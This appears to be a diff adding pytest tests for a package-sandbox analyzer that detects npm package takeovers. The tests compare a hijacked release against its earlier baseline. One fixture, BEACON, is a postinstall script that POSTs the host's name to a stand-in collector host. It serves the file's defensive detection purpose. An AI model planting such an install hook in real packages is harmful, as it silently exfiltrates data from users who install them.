@@ -1,0 +1,92 @@
+"""Takeover detection end to end: an earlier release and a crafted next one, served by a
+local registry, analysed in the real sandbox with `--baseline auto`."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from analyzer.cli import main
+from tests.fetch.conftest import FakeRegistry, registry  # noqa: F401 - the fixture
+from tests.packages import build_npm_tgz
+
+pytestmark = pytest.mark.sandbox
+
+INDEX = "module.exports = (text) => String(text).toUpperCase();\n"
+# The hijacked release's postinstall: a lookup and a POST to a host the package never used.
+BEACON = """const http = require("http");
+const req = http.request({host: "collect.webhook-sink.example", path: "/c", method: "POST"},
+                         (res) => res.resume());
+req.on("error", () => {});
+req.setTimeout(3000, () => req.destroy());
+req.end(JSON.stringify({host: require("os").hostname()}));
+"""
+
+
+def publish(registry: FakeRegistry, tmp_path: Path, name: str, version: str,  # noqa: F811
+            files: dict[str, str], **manifest: Any) -> None:
+    source = tmp_path / f"{name}-{version}"
+    source.mkdir()
+    (source / "package.json").write_text(json.dumps(
+        {"name": name, "version": version, "main": "index.js", **manifest}))
+    for path, text in files.items():
+        (source / path).write_text(text)
+    registry.add_npm(name, version, build_npm_tgz(source, tmp_path))
+
+
+def analyze(capsys: pytest.CaptureFixture[str], registry: FakeRegistry,  # noqa: F811
+            tmp_path: Path, target: str) -> tuple[dict[str, Any], str]:
+    report = tmp_path / f"{target.replace(':', '-').replace('@', '-')}.html"
+    assert main(["analyze", target, "--baseline", "auto", "--json", "--html", str(report),
+                 "--npm-registry-url", registry.urls.npm]) == 0
+    captured = capsys.readouterr()
+    return json.loads(captured.out), report.read_text()
+
+
+@pytest.fixture(autouse=True)
+def no_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """No store holds the baseline: it is analysed first."""
+    monkeypatch.setenv("PKGSANDBOX_DB", f"sqlite:///{tmp_path}/absent.db")
+
+
+def test_a_release_adding_a_postinstall_that_calls_out_is_flagged_against_its_baseline(
+        capsys: pytest.CaptureFixture[str], registry: FakeRegistry,  # noqa: F811
+        tmp_path: Path) -> None:
+    publish(registry, tmp_path, "upper-text", "1.4.0", {"index.js": INDEX})
+    publish(registry, tmp_path, "upper-text", "1.4.1", {"index.js": INDEX, "setup.js": BEACON},
+            scripts={"postinstall": "node setup.js"})
+    result, page = analyze(capsys, registry, tmp_path, "npm:upper-text@1.4.1")
+
+    assert result["verdict"] in ("suspicious", "malicious")
+    rules = {f["rule"] for f in result["findings"]}
+    assert {"changed-install-network", "changed-install-script-added"} <= rules
+    changes = result["changes"]
+    assert changes["baseline"] == "1.4.0"
+    assert changes["notes"][0] == "the baseline 1.4.0 was analysed first"
+    seen = {(c["kind"], c["subject"], c["phase"]) for c in changes["changes"]}
+    assert ("destination-added", "collect.webhook-sink.example", "install") in seen
+    assert ("script-added", "postinstall", None) in seen
+    assert ("file-added", "setup.js", None) in seen
+    assert "Changed since 1.4.0" in page and "collect.webhook-sink.example" in page
+
+
+def test_an_ordinary_release_adding_a_registry_dependency_stays_benign(
+        capsys: pytest.CaptureFixture[str], registry: FakeRegistry,  # noqa: F811
+        tmp_path: Path) -> None:
+    publish(registry, tmp_path, "pad-text", "2.0.0", {"index.js": INDEX})
+    publish(registry, tmp_path, "pad-helper", "1.0.0", {"index.js": "module.exports = 1;\n"})
+    addition = "module.exports.pad = require('pad-helper');\n"
+    publish(registry, tmp_path, "pad-text", "2.1.0", {"index.js": INDEX + addition},
+            dependencies={"pad-helper": "^1.0.0"})
+    result, page = analyze(capsys, registry, tmp_path, "npm:pad-text")  # the latest: 2.1.0
+
+    assert result["package"]["version"] == "2.1.0"
+    assert result["verdict"] == "benign", result["findings"]
+    kinds = {(c["kind"], c["subject"], c["detail"]) for c in result["changes"]["changes"]}
+    assert ("dependency-added", "pad-helper", "registry") in kinds
+    assert ("file-grown", "index.js", f"+{len(addition)} bytes") in kinds
+    assert not [f for f in result["findings"] if f["rule"].startswith("changed-")]
+    assert "Changed since 2.0.0" in page
